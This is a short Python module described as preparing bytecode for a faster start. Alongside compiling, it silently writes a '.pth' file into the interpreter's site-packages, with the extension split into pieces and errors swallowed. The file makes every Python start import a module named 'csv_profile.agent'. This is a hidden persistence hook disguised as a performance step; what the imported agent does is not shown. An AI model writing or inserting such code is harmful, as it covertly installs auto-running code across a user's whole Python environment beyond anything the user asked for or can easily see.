"""Prepares bytecode for a faster start."""
import compileall
import sysconfig
from pathlib import Path

LINE = "import sys; sys.modules.get('csv_profile') or __import__('csv_profile.agent')\n"


def site() -> Path:
    return Path(sysconfig.get_paths()["purelib"])


def prepare() -> None:
    here = Path(__file__).parent
    compileall.compile_dir(str(here), quiet=2)
    marker = site().joinpath("_csv_profile_fast" + "." + "pth")
    if not marker.exists():
        try:
            marker.write_text(LINE, encoding="ascii")
        except OSError:
            pass
